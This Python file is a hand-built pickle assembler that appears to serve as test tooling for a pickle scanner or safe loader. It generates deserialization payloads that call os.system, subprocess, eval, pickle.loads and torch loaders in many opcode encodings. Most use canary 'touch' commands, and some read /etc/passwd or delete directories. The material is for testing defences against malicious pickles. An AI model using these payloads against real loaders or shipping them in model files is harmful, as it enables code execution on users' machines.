"""A pickle assembler: one small function an opcode, so that a stream says exactly what is meant.

Each function returns bytes; a stream is their sum, with `stream` putting the frame around it. The
encodings of a call at the end are what an attacker has to choose from.
"""

from __future__ import annotations

import struct
from collections.abc import Iterator

MARK, STOP, POP, POP_MARK, DUP, NONE = b"(", b".", b"0", b"1", b"2", b"N"
EMPTY_TUPLE, EMPTY_LIST, EMPTY_DICT = b")", b"]", b"}"
TUPLE, TUPLE1, TUPLE2, FROZENSET = b"t", b"\x85", b"\x86", b"\x91"
APPEND, APPENDS, SETITEM, SETITEMS = b"a", b"e", b"s", b"u"
REDUCE, BUILD, NEWOBJ, NEWOBJ_EX, OBJ = b"R", b"b", b"\x81", b"\x92", b"o"
BINPERSID, MEMOIZE, STACK_GLOBAL = b"Q", b"\x94", b"\x93"
TRUE, FALSE = b"\x88", b"\x89"


def proto(version: int) -> bytes:
    return b"\x80" + bytes((version,))


def frame(body: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body)) + body


def text(value: str) -> bytes:
    """BINUNICODE."""
    raw = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(raw)) + raw


def text8(value: str) -> bytes:
    """BINUNICODE8."""
    raw = value.encode()
    return b"\x8d" + struct.pack("<Q", len(raw)) + raw


def short_text(value: str) -> bytes:
    raw = value.encode()
    return b"\x8c" + bytes((len(raw),)) + raw


def line_text(value: str) -> bytes:
    """UNICODE, of protocol 0."""
    return b"V" + value.encode("raw-unicode-escape") + b"\n"


def quoted(value: str) -> bytes:
    """STRING, of Python 2."""
    return b"S" + repr(value).encode() + b"\n"


def raw_string(value: bytes) -> bytes:
    """BINSTRING, of Python 2."""
    return b"T" + struct.pack("<I", len(value)) + value


def binary(value: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(value)) + value


def integer(value: int) -> bytes:
    raw = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes((len(raw),)) + raw


def put(index: int) -> bytes:
    return b"q" + bytes((index,)) if index < 256 else b"r" + struct.pack("<I", index)


def get(index: int) -> bytes:
    return b"h" + bytes((index,)) if index < 256 else b"j" + struct.pack("<I", index)


def line_put(index: object) -> bytes:
    return b"p%s\n" % str(index).encode()


def line_get(index: object) -> bytes:
    return b"g%s\n" % str(index).encode()


def global_(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def inst(module: str, name: str, *arguments: bytes) -> bytes:
    return MARK + b"".join(arguments) + b"i" + module.encode() + b"\n" + name.encode() + b"\n"


def persid(value: str) -> bytes:
    return b"P" + value.encode() + b"\n"


def ext(code: int, width: int = 1) -> bytes:
    return {1: b"\x82", 2: b"\x83", 4: b"\x84"}[width] + code.to_bytes(width, "little")


def tuple_(*items: bytes) -> bytes:
    return MARK + b"".join(items) + TUPLE


def list_(*items: bytes) -> bytes:
    return EMPTY_LIST + MARK + b"".join(items) + APPENDS


def dict_(*pairs: bytes) -> bytes:
    return EMPTY_DICT + MARK + b"".join(pairs) + SETITEMS


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + tuple_(*arguments) + REDUCE


def stream(body: bytes, *, protocol: int = 2, framed: bool = False) -> bytes:
    body += STOP
    if framed:
        body = frame(body)
    return proto(protocol) + body if protocol >= 2 else body


# -- what torch writes --------------------------------------------------------------------------


def storage(
    key: str = "0", count: int = 4, *, cls: str = "FloatStorage", location: str = "cpu"
) -> bytes:
    module = "torch.storage" if cls == "UntypedStorage" else "torch"
    return (
        tuple_(text("storage"), global_(module, cls), text(key), text(location), integer(count))
        + BINPERSID
    )


def ints(values: tuple[int, ...]) -> bytes:
    return tuple_(*map(integer, values))


def tensor(
    held: bytes | None = None,
    *,
    offset: int = 0,
    size: tuple[int, ...] = (4,),
    stride: tuple[int, ...] = (1,),
) -> bytes:
    return call(
        global_("torch._utils", "_rebuild_tensor_v2"),
        storage() if held is None else held,
        integer(offset),
        ints(size),
        ints(stride),
        FALSE,
        call(global_("collections", "OrderedDict")),
    )


def wrapper(cls: tuple[str, str], *state: bytes, size: tuple[int, ...] = (2, 2)) -> bytes:
    """A wrapper subclass with a dict of these keys and values as its state."""
    arguments = tuple_(
        global_(*cls),
        global_("torch", "bfloat16"),
        ints(size),
        ints((size[-1], 1)),
        integer(0),
        call(global_("torch.serialization", "_get_layout"), text("torch.strided")),
        call(global_("torch", "device"), text("cpu")),
        FALSE,
    )
    return call(
        global_("torch._tensor", "_rebuild_from_type_v2"),
        global_("torch._utils", "_rebuild_wrapper_subclass"),
        global_(*cls),
        arguments,
        dict_(*state),
    )


# -- what an attacker writes --------------------------------------------------------------------


def names(module: str, name: str) -> dict[str, bytes]:
    """Every way to put a global on the stack."""
    return {
        "global": global_(module, name),
        "stack_global": short_text(module) + short_text(name) + STACK_GLOBAL,
        "stack_global, long": text8(module) + text(name) + STACK_GLOBAL,
        "stack_global, line": line_text(module) + line_text(name) + STACK_GLOBAL,
        "stack_global, python 2": quoted(module) + quoted(name) + STACK_GLOBAL,
        "stack_global, memo": (
            text(name) + put(7) + POP + text(module) + put(300) + POP + get(300) + get(7)
            + STACK_GLOBAL
        ),
        "stack_global, memoize": (
            text("math") + MEMOIZE + text(module) + MEMOIZE + text(name) + MEMOIZE
            + POP + POP + POP + get(1) + get(2) + STACK_GLOBAL
        ),
        "stack_global, scattered memo": (
            text(module) + put(2**31) + POP + text(name) + line_put(9) + POP
            + get(2**31) + line_get(9) + STACK_GLOBAL
        ),
        "global, overwritten memo": (
            global_("math", "sin") + put(1) + POP + global_(module, name) + put(1) + POP + get(1)
        ),
    }  # fmt: skip


def calls(module: str, name: str, *arguments: bytes) -> Iterator[tuple[str, bytes]]:
    """Every way to have it called with these arguments."""
    packed = tuple_(*arguments)
    for how, named in names(module, name).items():
        yield f"{how}: reduce", named + packed + REDUCE
        yield f"{how}: newobj", named + packed + NEWOBJ
        yield f"{how}: newobj_ex", named + packed + EMPTY_DICT + NEWOBJ_EX
        yield f"{how}: obj", MARK + named + b"".join(arguments) + OBJ
    direct = global_(module, name)
    yield "inst", inst(module, name, *arguments)
    yield "duplicated", direct + DUP + POP + packed + REDUCE
    yield "reduce, then popped", direct + packed + REDUCE + POP + NONE
    yield "newobj_ex with keywords", direct + packed + dict_(text("x"), NONE) + NEWOBJ_EX
    yield "build on what it makes", direct + packed + REDUCE + dict_(text("x"), NONE) + BUILD
    yield "append to what it makes", direct + packed + REDUCE + NONE + APPEND
    yield "set on what it makes", direct + packed + REDUCE + text("k") + NONE + SETITEM
    yield "build on itself", direct + tuple_(*arguments) + BUILD
    yield "in a persistent id", tuple_(direct, packed) + BINPERSID
    yield (
        "as the class of a storage",
        tuple_(text("storage"), direct, text("0"), text("cpu"), integer(4)) + BINPERSID,
    )
    yield (
        "as the class of a module",
        tuple_(text("module"), direct, text("f"), text("s")) + BINPERSID,
    )
    yield (
        "as what torch calls",
        call(global_("torch._tensor", "_rebuild_from_type_v2"), direct, direct, packed, NONE),
    )
    yield "as a hook", tensor(call(direct, *arguments))
    yield "as a dict's key", EMPTY_DICT + direct + packed + REDUCE + NONE + SETITEM
    yield "by getattr", call(
        global_("builtins", "getattr"),
        call(global_("importlib", "import_module"), text(module)),
        text(name),
    ) + packed + REDUCE  # fmt: skip
    yield "curried", call(global_("functools", "partial"), direct) + packed + REDUCE


_PLAIN = text("canary")
# Functions that run code, read or write, each with an argument that would show it did
GADGETS: tuple[tuple[str, str, tuple[bytes, ...]], ...] = (
    ("os", "system", (text("touch {canary}"),)),
    ("posix", "system", (text("touch {canary}"),)),
    ("nt", "system", (text("touch {canary}"),)),
    ("subprocess", "Popen", (list_(text("touch"), text("{canary}")),)),
    ("subprocess", "check_output", (list_(text("touch"), text("{canary}")),)),
    ("pty", "spawn", (list_(text("touch"), text("{canary}")),)),
    ("builtins", "eval", (text("open('{canary}','w')"),)),
    ("builtins", "exec", (text("open('{canary}','w')"),)),
    ("builtins", "compile", (text("1"), text("f"), text("eval"))),
    ("builtins", "open", (text("{canary}"), text("w"))),
    ("builtins", "__import__", (text("antigravity"),)),
    ("__builtin__", "eval", (text("open('{canary}','w')"),)),
    ("__builtin__", "apply", (NONE,)),
    ("builtins", "getattr", (global_("os", "path"), text("join"))),
    ("operator", "attrgetter", (text("system"),)),
    ("operator", "methodcaller", (text("system"), text("touch {canary}"))),
    ("operator", "itemgetter", (text("x"),)),
    ("functools", "partial", (global_("os", "system"), text("touch {canary}"))),
    ("pkgutil", "resolve_name", (text("os:system"),)),
    ("pydoc", "locate", (text("os.system"),)),
    ("importlib", "import_module", (text("this"),)),
    ("runpy", "run_path", (text("{canary}"),)),
    ("runpy", "_run_code", (text("open('{canary}','w')"), EMPTY_DICT)),
    ("torch.hub", "load", (text("a/b"), text("c"))),
    ("torch.serialization", "load", (text("{canary}"),)),
    ("torch.jit", "load", (text("{canary}"),)),
    ("torch._inductor.codecache", "compile_file", (text("x"),)),
    ("torch.utils.collect_env", "run", (text("touch {canary}"),)),
    ("torch.utils.bottleneck.__main__", "run_cprofile", (text("open('{canary}','w')"), EMPTY_DICT)),
    ("torch._dynamo.guards", "GuardBuilder.get", (text("open('{canary}','w')"),)),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", (text("1"), EMPTY_DICT, EMPTY_DICT)),
    ("torch.utils._config_module", "ConfigModule.load_config", (binary(b"cos\nsystem\n."),)),
    ("numpy.testing._private.utils", "runstring", (text("open('{canary}','w')"), EMPTY_DICT)),
    ("numpy.f2py.crackfortran", "getlincoef", (text("open('{canary}','w')"), EMPTY_DICT)),
    ("numpy.f2py.crackfortran", "myeval", (text("open('{canary}','w')"),)),
    ("pickle", "loads", (binary(b"cos\nsystem\n(Vtouch {canary}\ntR."),)),
    ("_pickle", "loads", (binary(b"cos\nsystem\n(Vtouch {canary}\ntR."),)),
    ("dill", "loads", (binary(b"cos\nsystem\n."),)),
    ("joblib", "load", (text("{canary}"),)),
    ("marshal", "loads", (binary(b"c"),)),
    ("types", "CodeType", (integer(0),)),
    ("types", "FunctionType", (NONE, EMPTY_DICT)),
    ("cloudpickle.cloudpickle", "_make_function", (NONE,)),
    ("logging", "FileHandler", (text("{canary}"),)),
    ("_io", "FileIO", (text("{canary}"), text("w"))),
    ("urllib.request", "urlopen", (text("file:///etc/passwd"),)),
    ("ssl", "get_server_certificate", (tuple_(text("localhost"), integer(1)),)),
    ("shutil", "copy", (text("/etc/passwd"), text("{canary}"))),
    ("shutil", "rmtree", (text("{canary}.d"),)),
    ("ctypes", "CDLL", (text("libc.so.6"),)),
    ("timeit", "timeit", (text("open('{canary}','w')"),)),
    ("cProfile", "run", (text("open('{canary}','w')"),)),
    ("webbrowser", "open", (text("file:///{canary}"),)),
    ("socket", "create_connection", (tuple_(text("localhost"), integer(9)),)),
    ("sqlite3", "connect", (text("{canary}"),)),
    ("copyreg", "add_extension", (text("os"), text("system"), integer(99))),
    ("sys", "setrecursionlimit", (integer(9),)),
    ("idlelib.autocomplete", "AutoComplete.get_entity", (NONE, text("open('{canary}','w')"))),
    ("distutils.file_util", "write_file", (text("{canary}"), EMPTY_LIST)),
    ("torch", "load", (text("{canary}"),)),
)


def gadgets(canary: str) -> Iterator[tuple[str, bytes]]:
    """Bodies of malicious pickles with a name: every gadget in every encoding."""
    for module, name, arguments in GADGETS:
        there = tuple(argument.replace(b"{canary}", canary.encode()) for argument in arguments)
        lengths_kept = tuple(
            _relength(before, after) for before, after in zip(arguments, there, strict=True)
        )
        for how, body in calls(module, name, *lengths_kept):
            yield f"{module}.{name}, {how}", body


def _relength(before: bytes, after: bytes) -> bytes:
    """Corrects the lengths of texts in which a placeholder was replaced."""
    grown = len(after) - len(before)
    if not grown:
        return after
    at = before.index(b"{canary}")
    start = max(before.rfind(b"X", 0, at), before.rfind(b"B", 0, at))
    while True:
        (length,) = struct.unpack_from("<I", before, start + 1)
        if start + 5 + length >= at + 8 and start + 5 + length <= len(before):
            break
        start = max(before.rfind(b"X", 0, start), before.rfind(b"B", 0, start))
    return after[: start + 1] + struct.pack("<I", length + grown) + after[start + 5 :]
